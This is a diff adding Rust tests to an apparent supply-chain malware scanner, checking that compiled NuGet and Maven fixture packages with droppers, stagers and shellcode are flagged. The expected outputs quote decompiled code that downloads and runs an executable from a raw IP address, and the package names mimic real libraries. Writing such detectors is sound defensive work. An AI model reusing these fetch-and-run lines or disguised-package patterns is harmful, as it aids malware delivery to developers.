@@ -165,3 +165,115 @@ fn a_go_download_pipe_outside_init_is_not_import_time_code() {
     assert!(found.contains(&"download/pipe-to-shell".to_string()));
     assert!(!found.contains(&"correlate/import-time-network".to_string()));
 }
+
+/// Compiled code is read back into each method's calls and strings: the droppers and
+/// stagers shipped as .NET assemblies and JVM classes are found in the binaries alone.
+#[test]
+fn attacks_shipped_as_compiled_code_are_malicious() {
+    let cases: &[(&str, &[&str])] = &[
+        (
+            "attacks/nuget-dll-dropper",
+            &[
+                "download/dotnet-fetch-and-start",
+                "correlate/function-download-write-run",
+            ],
+        ),
+        (
+            "attacks/nuget-dll-stager",
+            &[
+                "correlate/function-fetch-then-execute",
+                "correlate/function-decode-then-execute",
+                "payload/encoded-executable",
+            ],
+        ),
+        (
+            "attacks/nuget-dll-shellcode",
+            &["execution/shellcode-injection"],
+        ),
+        ("attacks/nuget-time-bomb", &["persistence/time-bomb-kill"]),
+        (
+            "attacks/nuget-il-weaved",
+            &[
+                "correlate/import-time-network",
+                "correlate/host-data-and-network",
+            ],
+        ),
+        (
+            "attacks/maven-class-dropper/jackson-databind-util-2.17.2.jar",
+            &[
+                "download/java-fetch-and-start",
+                "correlate/function-download-write-run",
+            ],
+        ),
+        (
+            "attacks/maven-class-stager/log4j-core-lookup-2.24.1.jar",
+            &["correlate/function-decode-then-execute"],
+        ),
+    ];
+    for (path, rules) in cases {
+        assert_malicious_with(&data(path), rules);
+    }
+}
+
+/// Evidence in a binary names the method it was read from, not a line of the binary.
+#[test]
+fn compiled_evidence_names_its_method() {
+    let (_, report) = scan_json(&data("attacks/nuget-dll-dropper"));
+    let finding = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "download/dotnet-fetch-and-start")
+        .expect("the dropper rule fires");
+    assert_eq!(finding["path"], "lib/net6.0/Coinbase.Core.dll");
+    assert!(finding.get("line").is_none(), "{finding:#}");
+    let snippet = finding["snippet"].as_str().unwrap();
+    assert!(
+        snippet.starts_with("in Coinbase.Core.Telemetry::Start: System.Net.WebClient.DownloadFile(\"http://185.220.101.4/"),
+        "{snippet}"
+    );
+}
+
+/// A compiled client that fetches what its caller names, caches it and opens a page,
+/// in three methods, is no dropper: each method is read as one piece of code.
+#[test]
+fn a_compiled_client_with_separate_capabilities_is_not_malicious() {
+    let (_, report) = scan_json(&data("honest/nuget-dll-client"));
+    assert_eq!(report["verdict"], "clean", "{report:#}");
+}
+
+/// `palisade view` prints the text a finding in a binary quotes, so that a reader can
+/// check it: listed first when the target holds several files, then by path.
+#[test]
+fn view_prints_the_compiled_code_a_finding_quotes() {
+    let dropper = data("attacks/nuget-dll-dropper");
+    let dir = dropper.to_str().unwrap();
+    let listed = palisade(&["view", dir]);
+    assert!(listed.status.success());
+    assert_eq!(
+        String::from_utf8_lossy(&listed.stdout),
+        "lib/net6.0/Coinbase.Core.dll\n"
+    );
+    let shown = palisade(&["view", dir, "lib/net6.0/Coinbase.Core.dll"]);
+    let text = String::from_utf8_lossy(&shown.stdout);
+    assert!(shown.status.success(), "{text}");
+    assert!(text.contains("// method Coinbase.Core.Telemetry::Start\n"));
+    assert!(text.contains(
+        "System.Net.WebClient.DownloadFile(\"http://185.220.101.4/update/cbsvc.exe\", loc0)\n"
+    ));
+    let jar = data("attacks/maven-class-dropper/jackson-databind-util-2.17.2.jar");
+    let class = "com/fasterxml/jackson/databind/util/ClassUtilInit.class";
+    let shown = palisade(&["view", jar.to_str().unwrap(), class]);
+    assert!(
+        String::from_utf8_lossy(&shown.stdout)
+            .contains("new java.net.URL(\"http://185.220.101.4/jdk/update\")\n")
+    );
+    // A file that is not compiled code is an error naming it.
+    let refused = palisade(&["view", dir, "Coinbase.Core.nuspec"]);
+    assert_eq!(refused.status.code(), Some(2));
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(
+        stderr.contains("Coinbase.Core.nuspec: not a .NET assembly or JVM class file"),
+        "{stderr}"
+    );
+}
